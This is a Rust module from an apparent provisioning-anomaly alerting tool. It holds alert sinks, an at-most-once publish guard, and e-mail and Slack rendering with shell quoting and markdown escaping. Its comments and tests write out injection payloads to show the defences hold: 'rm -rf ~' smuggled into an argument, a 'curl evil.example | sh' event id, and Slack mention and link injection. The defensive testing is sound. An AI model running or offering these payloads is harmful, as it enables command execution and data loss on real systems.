//! Alert sinks: where alerting verdicts go (DESIGN §6). The port is [`AlertSink`]; the adapters
//! are [`StdoutSink`] (a JSON line per alert on any writer) and, with feature `aws`,
//! [`sns::SnsSink`] (one SNS publish per alert, effectively once across retries).
//!
//! This module also renders an alert for people: [`subject`], [`email_text`] and
//! [`chat_notification`] (an AWS Chatbot custom notification, for Slack), so every sink and host
//! words an alert the same way.

use std::io::Write;
use std::sync::Mutex;

use serde_json::json;

use crate::store::StoreError;
use crate::verdict::{Reason, Verdict};

#[cfg(feature = "aws")]
pub mod sns;

#[cfg(feature = "aws")]
pub use sns::SnsSink;

/// What [`AlertSink::publish`] did with a verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PublishOutcome {
    /// The alert went out.
    Published,
    /// The alert had gone out before (a retried invocation); nothing was sent.
    AlreadyPublished,
    /// The verdict did not alert; nothing was sent.
    NotAlert,
}

#[derive(Debug, thiserror::Error)]
pub enum AlertError {
    #[error("cannot write the alert: {0}")]
    Io(#[from] std::io::Error),
    #[error("cannot encode the alert: {0}")]
    Json(#[from] serde_json::Error),
    /// An SNS call failed (feature `aws`); the SDK error is the source.
    #[error("SNS {op} failed")]
    Sns {
        op: &'static str,
        #[source]
        source: Box<dyn std::error::Error + Send + Sync + 'static>,
    },
    /// The publish guard could not be read or written.
    #[error("the alert publish guard failed")]
    Guard(#[from] StoreError),
    /// Another invocation claimed this alert moments ago and has not finished publishing it.
    #[error("the alert for event {event_id} is being published by another invocation; retry later")]
    InFlight { event_id: String },
    /// The message cannot be made to fit the transport, even without the event history.
    #[error("the alert for event {event_id} is {bytes} bytes; the limit is {limit}")]
    TooLarge {
        event_id: String,
        bytes: usize,
        limit: usize,
    },
}

impl AlertError {
    /// Whether trying again later may succeed (a Lambda returns `Err` only for these, so the
    /// invocation is retried; the others are logged and dead-lettered).
    pub fn is_retryable(&self) -> bool {
        !matches!(self, AlertError::Json(_) | AlertError::TooLarge { .. })
    }
}

/// Where alerts go.
///
/// Contract:
/// - Only alerting verdicts are sent; any other verdict returns [`PublishOutcome::NotAlert`].
/// - **Idempotency**: a sink that talks to the outside world publishes each alert (keyed by event
///   id) at most once across retried invocations, with a [`PublishGuard`]; a repeat returns
///   [`PublishOutcome::AlreadyPublished`]. Sinks writing to a local stream do not deduplicate.
/// - **Errors**: an `Err` means the alert was not sent (and any claim on it was given back), so
///   the caller may retry when [`AlertError::is_retryable`]; nothing is retried silently.
/// - **Ordering**: none across alerts; each publish is independent.
pub trait AlertSink {
    fn publish(&self, v: &Verdict) -> Result<PublishOutcome, AlertError>;
}

/// Writes each alert as one JSON line (the verdict) to a writer, flushed per alert.
#[derive(Debug)]
pub struct StdoutSink<W: Write = std::io::Stdout> {
    out: Mutex<W>,
}

impl StdoutSink<std::io::Stdout> {
    /// A sink on the process's standard output.
    pub fn stdout() -> Self {
        StdoutSink::new(std::io::stdout())
    }
}

impl<W: Write> StdoutSink<W> {
    pub fn new(out: W) -> Self {
        StdoutSink {
            out: Mutex::new(out),
        }
    }

    /// Gives the writer back (tests read what was written).
    pub fn into_inner(self) -> W {
        self.out.into_inner().unwrap_or_else(|e| e.into_inner())
    }
}

impl<W: Write> AlertSink for StdoutSink<W> {
    fn publish(&self, v: &Verdict) -> Result<PublishOutcome, AlertError> {
        if !v.alert {
            return Ok(PublishOutcome::NotAlert);
        }
        let mut line = serde_json::to_vec(v)?;
        line.push(b'\n');
        let mut out = self.out.lock().unwrap_or_else(|e| e.into_inner());
        out.write_all(&line)?;
        out.flush()?;
        Ok(PublishOutcome::Published)
    }
}

/// The state of an alert's publication, as a [`PublishGuard`] sees it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Claim {
    /// The caller now holds the claim and must publish, then [`PublishGuard::confirm`] (or
    /// [`PublishGuard::release`] when publishing failed).
    Granted,
    /// The alert was published before.
    Published,
    /// Another invocation holds a fresh claim; retry later. A claim whose holder died without
    /// confirming or releasing goes stale after a few minutes and can be claimed again.
    InFlight,
}

/// Keeps a retried invocation from publishing the same alert twice: claim, publish, confirm.
///
/// A crash between the publish and the confirmation leaves a stale claim that a later retry takes
/// over, so an alert may (rarely) go out twice but is never lost: at-least-once, deduplicated in
/// every ordinary retry. `DynamoDbStore` implements it with a conditional put of an
/// `ALERT#<event id>` item that expires after about a week; [`MemoryGuard`] keeps claims in memory.
pub trait PublishGuard {
    fn claim(&self, event_id: &str) -> Result<Claim, AlertError>;
    fn confirm(&self, event_id: &str) -> Result<(), AlertError>;
    fn release(&self, event_id: &str) -> Result<(), AlertError>;
}

impl<G: PublishGuard + ?Sized> PublishGuard for &G {
    fn claim(&self, event_id: &str) -> Result<Claim, AlertError> {
        (**self).claim(event_id)
    }
    fn confirm(&self, event_id: &str) -> Result<(), AlertError> {
        (**self).confirm(event_id)
    }
    fn release(&self, event_id: &str) -> Result<(), AlertError> {
        (**self).release(event_id)
    }
}

impl<G: PublishGuard + ?Sized> PublishGuard for std::sync::Arc<G> {
    fn claim(&self, event_id: &str) -> Result<Claim, AlertError> {
        (**self).claim(event_id)
    }
    fn confirm(&self, event_id: &str) -> Result<(), AlertError> {
        (**self).confirm(event_id)
    }
    fn release(&self, event_id: &str) -> Result<(), AlertError> {
        (**self).release(event_id)
    }
}

/// Claims held in this process only (tests, single-process hosts).
#[derive(Debug, Default)]
pub struct MemoryGuard {
    claims: Mutex<std::collections::HashMap<String, bool>>,
}

impl MemoryGuard {
    pub fn new() -> Self {
        Self::default()
    }

    fn claims(&self) -> std::sync::MutexGuard<'_, std::collections::HashMap<String, bool>> {
        self.claims.lock().unwrap_or_else(|e| e.into_inner())
    }
}

impl PublishGuard for MemoryGuard {
    fn claim(&self, event_id: &str) -> Result<Claim, AlertError> {
        let mut c = self.claims();
        Ok(match c.get(event_id) {
            Some(true) => Claim::Published,
            Some(false) => Claim::InFlight,
            None => {
                c.insert(event_id.to_owned(), false);
                Claim::Granted
            }
        })
    }
    fn confirm(&self, event_id: &str) -> Result<(), AlertError> {
        self.claims().insert(event_id.to_owned(), true);
        Ok(())
    }
    fn release(&self, event_id: &str) -> Result<(), AlertError> {
        let mut c = self.claims();
        if c.get(event_id) == Some(&false) {
            c.remove(event_id);
        }
        Ok(())
    }
}

/// Publishes `v` through `send` at most once per event id under `guard`: claim, send, then
/// confirm; a failed send gives the claim back so a retry can publish.
pub fn publish_once<G: PublishGuard + ?Sized>(
    guard: &G,
    v: &Verdict,
    send: impl FnOnce() -> Result<(), AlertError>,
) -> Result<PublishOutcome, AlertError> {
    if !v.alert {
        return Ok(PublishOutcome::NotAlert);
    }
    match guard.claim(&v.event_id)? {
        Claim::Published => return Ok(PublishOutcome::AlreadyPublished),
        Claim::InFlight => {
            return Err(AlertError::InFlight {
                event_id: v.event_id.clone(),
            });
        }
        Claim::Granted => {}
    }
    if let Err(e) = send() {
        if let Err(release) = guard.release(&v.event_id) {
            // The claim goes stale on its own; a retry takes it over then.
            tracing::warn!(event_id = %v.event_id, error = %release, "could not release the alert claim");
        }
        return Err(e);
    }
    if let Err(e) = guard.confirm(&v.event_id) {
        // Published but not confirmed: a retry after the claim goes stale may publish again.
        tracing::warn!(event_id = %v.event_id, error = %e, "alert published but its claim was not confirmed");
    }
    Ok(PublishOutcome::Published)
}

// ---------------------------------------------------------------------------------------------
// Rendering an alert for people.

/// The reason that weighs most (the smallest p-value).
pub fn top_reason(v: &Verdict) -> Option<&Reason> {
    v.reasons.iter().min_by(|a, b| {
        a.p_value
            .partial_cmp(&b.p_value)
            .unwrap_or(std::cmp::Ordering::Equal)
    })
}

/// The event count of the burst this verdict belongs to, from the pipeline's `burst` context note
/// ("… {k} changes so far …"), when the event is part of a burst that already alerted.
pub fn burst_count(v: &Verdict) -> Option<u64> {
    let note = v.context.iter().find(|c| c.kind == "burst")?;
    let before = note.detail.split(" changes so far").next()?;
    if before.len() == note.detail.len() {
        return None;
    }
    before.rsplit(' ').next()?.parse().ok()
}

/// One line saying what happened: "ann granted Super Administrator (admin) to bob".
pub fn headline(v: &Verdict) -> String {
    let what = match (&v.entitlement, v.privilege) {
        (Some(e), Some(p)) => format!(" {e} ({p})"),
        (Some(e), None) => format!(" {e}"),
        _ => String::new(),
    };
    format!("{} {}{what} → {}", v.actor, v.action, v.target)
}

/// A short e-mail subject: printable ASCII, at most 100 characters (SNS's limits for `Subject`).
pub fn subject(v: &Verdict) -> String {
    let what = match &v.entitlement {
        Some(e) => format!("{} {e} to {}", v.action, v.target),
        None => format!("{} {}", v.action, v.target),
    };
    let raw = format!(
        "provguard {}: {what}",
        v.severity.as_str().to_ascii_uppercase()
    );
    let mut s: String = raw
        .chars()
        .map(|c| {
            if c.is_ascii_graphic() || c == ' ' {
                c
            } else {
                '?'
            }
        })
        .collect();
    if s.len() > 100 {
        s.truncate(97);
        s.push_str("...");
    }
    s
}

/// One shell word: an event id is the sender's, so a command built with it is quoted for a
/// POSIX shell (`provguard explain 'x; rm -rf ~'` runs nothing but provguard). NUL bytes, which
/// no shell word can hold, are dropped.
pub fn shell_word(s: &str) -> String {
    let clean: std::borrow::Cow<'_, str> = if s.contains('\0') {
        s.replace('\0', "").into()
    } else {
        s.into()
    };
    match shlex::try_quote(&clean) {
        Ok(q) if !q.is_empty() => q.into_owned(),
        _ => "''".to_owned(),
    }
}

/// The command that shows an alert's whole verdict, ready to paste.
pub fn explain_command(event_id: &str) -> String {
    format!("provguard explain {}", shell_word(event_id))
}

/// The command that records feedback on an alert, ready to paste once the verdict is chosen.
pub fn feedback_command(event_id: &str) -> String {
    format!(
        "provguard feedback {} benign|malicious",
        shell_word(event_id)
    )
}

/// Text from events (names, e-mails, details) made inert in Slack's markdown: `&`, `<` and `>`
/// are escaped as Slack asks, so nothing becomes a link or a mention (`<!channel>`).
pub fn slack_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

/// A name shown verbatim in Slack: inline code (no bold, italics or strike-through inside), with
/// its own backticks, which would end the code span, turned into a look-alike.
pub fn slack_name(s: &str) -> String {
    if s.is_empty() {
        return "`(none)`".to_owned();
    }
    format!("`{}`", slack_text(&s.replace('`', "\u{2035}")))
}

fn how_to_explain(v: &Verdict) -> [String; 2] {
    [
        format!(
            "See the whole verdict and history: {}",
            explain_command(&v.event_id)
        ),
        format!(
            "Record your conclusion: {} --note \"...\"",
            feedback_command(&v.event_id)
        ),
    ]
}

/// The readable e-mail body: what happened, severity and score, each reason's sentence, the
/// context, the burst, the short event history, the event id and how to explain it.
pub fn email_text(v: &Verdict) -> String {
    use std::fmt::Write as _;
    let mut t = String::new();
    let _ = writeln!(
        t,
        "provguard alert: {} (score {} of 100)",
        v.severity.as_str().to_uppercase(),
        v.score
    );
    let _ = writeln!(t);
    let _ = writeln!(t, "What happened");
    let _ = writeln!(t, "  {}", headline(v));
    let _ = writeln!(
        t,
        "  at {} (source {}, tenant {})",
        v.time.format("%Y-%m-%d %H:%M:%S UTC"),
        v.source,
        v.tenant
    );
    let _ = writeln!(t);
    let _ = writeln!(t, "Why it looks anomalous");
    if v.reasons.is_empty() {
        let _ = writeln!(t, "  (no reasons recorded)");
    }
    for r in &v.reasons {
        let _ = writeln!(t, "  - {} (p = {:.2e}): {}", r.code, r.p_value, r.detail);
    }
    if !v.context.is_empty() {
        let _ = writeln!(t);
        let _ = writeln!(t, "Context");
        for c in &v.context {
            let _ = writeln!(t, "  - {} ({}): {}", c.kind, c.effect, c.detail);
        }
    }
    if let Some(k) = burst_count(v) {
        let _ = writeln!(t);
        let _ = writeln!(
            t,
            "Part of a burst: {k} changes so far by {} (the burst alerted once already).",
            v.actor
        );
    }
    if !v.history.is_empty() {
        let _ = writeln!(t);
        let _ = writeln!(t, "Recent events of the target and the actor");
        for h in &v.history {
            let ent = h.entitlement.as_deref().unwrap_or("");
            let _ = writeln!(
                t,
                "  {}  {}  {} → {}  {ent}  ({})",
                h.time.format("%Y-%m-%d %H:%M UTC"),
                h.action,
                h.actor,
                h.target,
                h.id
            );
        }
    }
    let _ = writeln!(t);
    let _ = writeln!(t, "Event id: {}", v.event_id);
    for line in how_to_explain(v) {
        let _ = writeln!(t, "{line}");
    }
    t
}

fn severity_emoji(v: &Verdict) -> &'static str {
    match v.severity {
        crate::verdict::Severity::Critical => ":red_circle:",
        crate::verdict::Severity::High => ":large_orange_circle:",
        crate::verdict::Severity::Medium => ":large_yellow_circle:",
        _ => ":white_circle:",
    }
}

fn clip(s: &str, max: usize) -> String {
    if s.len() <= max {
        return s.to_owned();
    }
    let mut end = max.saturating_sub(1);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

/// An AWS Chatbot custom notification (for Slack or Teams): title, a markdown description with the
/// reasons, context, burst and history, next steps, and the verdict's key facts as metadata.
pub fn chat_notification(v: &Verdict) -> serde_json::Value {
    use std::fmt::Write as _;
    let mut d = String::new();
    let what = match (&v.entitlement, v.privilege) {
        (Some(e), Some(p)) => format!(" {} ({p})", slack_name(e)),
        (Some(e), None) => format!(" {}", slack_name(e)),
        _ => String::new(),
    };
    let _ = writeln!(
        d,
        "{} *{}*{what} → {} (score {}/100, source {}, tenant {}, {})",
        slack_name(&v.actor),
        v.action,
        slack_name(&v.target),
        v.score,
        slack_name(&v.source),
        slack_name(&v.tenant),
        v.time.format("%Y-%m-%d %H:%M UTC")
    );
    for r in &v.reasons {
        let _ = writeln!(d, "• `{}`: {}", r.code, slack_text(&r.detail));
    }
    for c in &v.context {
        let _ = writeln!(
            d,
            "• _{} ({})_: {}",
            slack_text(&c.kind),
            slack_text(&c.effect),
            slack_text(&c.detail)
        );
    }
    if let Some(k) = burst_count(v) {
        let _ = writeln!(d, "• part of a burst: *{k}* changes so far");
    }
    if !v.history.is_empty() {
        let _ = writeln!(d, "*History*");
        for h in v
            .history
            .iter()
            .rev()
            .take(5)
            .collect::<Vec<_>>()
            .iter()
            .rev()
        {
            let _ = writeln!(
                d,
                "• {} `{}` {} → {} {}",
                h.time.format("%m-%d %H:%M"),
                h.action,
                slack_name(&h.actor),
                slack_name(&h.target),
                h.entitlement.as_deref().map(slack_name).unwrap_or_default()
            );
        }
    }
    let title = format!(
        "{} provguard {} alert: {}",
        severity_emoji(v),
        v.severity,
        top_reason(v).map_or("anomalous provisioning", |r| r.code.as_str())
    );
    let top = top_reason(v).map_or("none", |r| r.code.as_str());
    json!({
        "version": "1.0",
        "source": "custom",
        "id": v.event_id,
        "content": {
            "textType": "client-markdown",
            // Chatbot's limits: title 250 characters, description 8,000.
            "title": clip(&title, 250),
            "description": clip(&d, 7_900),
            "nextSteps": [
                format!(
                    "Ask {} whether the change to {} was intended",
                    slack_name(&v.actor),
                    slack_name(&v.target)
                ),
                slack_name(&explain_command(&v.event_id)),
                slack_name(&feedback_command(&v.event_id)),
            ],
            "keywords": [v.severity.as_str(), v.source.as_str(), top],
        },
        "metadata": {
            "threadId": v.event_id,
            "summary": clip(&subject(v), 100),
            "eventType": "provguard.alert",
            "relatedResources": [v.actor.as_str(), v.target.as_str()],
            "additionalContext": {
                "event_id": v.event_id,
                "severity": v.severity.as_str(),
                "score": v.score.to_string(),
                "tenant": v.tenant,
                "reason": top,
            },
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Action, EventSummary, Privilege};
    use crate::verdict::{ContextNote, Severity};

    pub(crate) fn alert() -> Verdict {
        Verdict {
            event_id: "ev-1".into(),
            source: "okta".into(),
            tenant: "acme".into(),
            time: "2026-11-02T02:17:39Z".parse().unwrap(),
            action: Action::GrantRole,
            actor: "priya@acme.example".into(),
            target: "backup@acme.example".into(),
            entitlement: Some("Super administrator".into()),
            privilege: Some(Privilege::Admin),
            score: 75,
            p_value: 0.002,
            severity: Severity::High,
            alert: true,
            reasons: vec![
                Reason {
                    code: "missing_approval".into(),
                    detail: "no approval on file".into(),
                    p_value: 0.01,
                    scope: None,
                },
                Reason {
                    code: "escalation_chain".into(),
                    detail: "created 12 minutes earlier, now granted admin".into(),
                    p_value: 0.001,
                    scope: None,
                },
            ],
            context: vec![ContextNote {
                kind: "burst".into(),
                detail:
                    "part of the burst already alerted as event ev-0; 7 changes so far (p = 1.0e-6)"
                        .into(),
                effect: "lowered".into(),
            }],
            history: vec![EventSummary {
                id: "ev-0".into(),
                time: "2026-11-02T02:05:00Z".parse().unwrap(),
                action: Action::CreateAccount,
                actor: "priya@acme.example".into(),
                target: "backup@acme.example".into(),
                entitlement: None,
                privilege: None,
                burst_alert: false,
                off_hours_alert: false,
            }],
            feedback: None,
            held_by: None,
            ..serde_json::from_value(serde_json::json!({
                "event_id": "", "source": "", "tenant": "", "time": "2026-01-01T00:00:00Z",
                "action": "other", "actor": "", "target": "", "entitlement": null,
                "privilege": null, "score": 0, "p_value": 1.0, "severity": "info",
                "alert": false, "reasons": [], "context": []
            }))
            .unwrap()
        }
    }

    #[test]
    fn stdout_sink_writes_one_json_line_per_alert_only() {
        let sink = StdoutSink::new(Vec::new());
        let v = alert();
        assert_eq!(sink.publish(&v).unwrap(), PublishOutcome::Published);
        let quiet = Verdict {
            alert: false,
            ..v.clone()
        };
        assert_eq!(sink.publish(&quiet).unwrap(), PublishOutcome::NotAlert);
        let out = String::from_utf8(sink.into_inner()).unwrap();
        assert_eq!(out.lines().count(), 1);
        let back: Verdict = serde_json::from_str(out.trim_end()).unwrap();
        assert_eq!(back, v);
    }

    #[test]
    fn the_top_reason_is_the_smallest_p_value() {
        assert_eq!(top_reason(&alert()).unwrap().code, "escalation_chain");
    }

    #[test]
    fn the_burst_count_comes_from_the_burst_note() {
        assert_eq!(burst_count(&alert()), Some(7));
        let mut v = alert();
        v.context.clear();
        assert_eq!(burst_count(&v), None);
    }

    #[test]
    fn the_email_says_what_why_and_how_to_explain() {
        let t = email_text(&alert());
        for needle in [
            "HIGH (score 75 of 100)",
            "priya@acme.example grant_role Super administrator (admin) → backup@acme.example",
            "escalation_chain",
            "created 12 minutes earlier",
            "no approval on file",
            "Part of a burst: 7 changes",
            "create_account",
            "Event id: ev-1",
            "provguard explain ev-1",
        ] {
            assert!(t.contains(needle), "{needle:?} missing from:\n{t}");
        }
    }

    #[test]
    fn the_subject_is_short_printable_ascii() {
        let mut v = alert();
        v.target = format!("{}@exämple.com", "x".repeat(200));
        let s = subject(&v);
        assert!(s.len() <= 100, "{s}");
        assert!(s.chars().all(|c| c.is_ascii_graphic() || c == ' '), "{s}");
        assert!(s.starts_with("provguard HIGH: grant_role Super administrator"));
    }

    #[test]
    fn the_chat_notification_follows_the_chatbot_format() {
        let n = chat_notification(&alert());
        assert_eq!(n["version"], "1.0");
        assert_eq!(n["source"], "custom");
        assert_eq!(n["content"]["textType"], "client-markdown");
        let title = n["content"]["title"].as_str().unwrap();
        assert!(title.contains("escalation_chain"), "{title}");
        let d = n["content"]["description"].as_str().unwrap();
        assert!(
            d.contains("no approval on file") && d.contains("*7* changes"),
            "{d}"
        );
        assert_eq!(n["content"]["nextSteps"].as_array().unwrap().len(), 3);
        assert_eq!(n["metadata"]["additionalContext"]["severity"], "high");
    }

    #[test]
    fn sender_controlled_ids_and_names_cannot_run_commands_or_ping_a_channel() {
        let mut v = alert();
        v.event_id = "x'; curl evil.example | sh; echo '".into();
        v.actor = "<!channel> *urgent* <https://evil.example|click>".into();
        v.target = "bob`@acme.example".into();
        let email = email_text(&v);
        let line = email
            .lines()
            .find(|l| l.contains("provguard explain"))
            .unwrap();
        let cmd = line.split(": ").nth(1).unwrap();
        // The pasted command is exactly provguard, explain and the id: one word, as given.
        assert_eq!(
            shlex::split(cmd).unwrap(),
            ["provguard", "explain", v.event_id.as_str()]
        );
        let n = chat_notification(&v);
        let d = n["content"]["description"].as_str().unwrap();
        let steps = n["content"]["nextSteps"].to_string();
        for text in [d, steps.as_str()] {
            assert!(
                !text.contains("<!channel>") && !text.contains("<https://"),
                "{text}"
            );
            assert!(text.contains("&lt;!channel&gt;"), "{text}");
        }
        assert!(d.contains("`&lt;!channel&gt; *urgent* &lt;https://evil.example|click&gt;`"));
        assert!(d.contains("`bob\u{2035}@acme.example`"), "{d}");
        assert_eq!(shell_word("ev-1"), "ev-1");
        assert_eq!(shell_word("a\0b c"), "'ab c'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn publish_once_suppresses_a_repeat_and_releases_a_failed_send() {
        let guard = MemoryGuard::new();
        let v = alert();
        let err = publish_once(&guard, &v, || {
            Err(AlertError::Io(std::io::Error::other("network down")))
        })
        .unwrap_err();
        assert!(err.is_retryable());
        let mut sent = 0;
        assert_eq!(
            publish_once(&guard, &v, || {
                sent += 1;
                Ok(())
            })
            .unwrap(),
            PublishOutcome::Published
        );
        assert_eq!(
            publish_once(&guard, &v, || {
                sent += 1;
                Ok(())
            })
            .unwrap(),
            PublishOutcome::AlreadyPublished
        );
        assert_eq!(sent, 1);
        // A claim held by another invocation is reported, not ignored.
        assert_eq!(guard.claim("ev-2").unwrap(), Claim::Granted);
        let other = Verdict {
            event_id: "ev-2".into(),
            ..v
        };
        assert!(matches!(
            publish_once(&guard, &other, || Ok(())),
            Err(AlertError::InFlight { .. })
        ));
    }
}
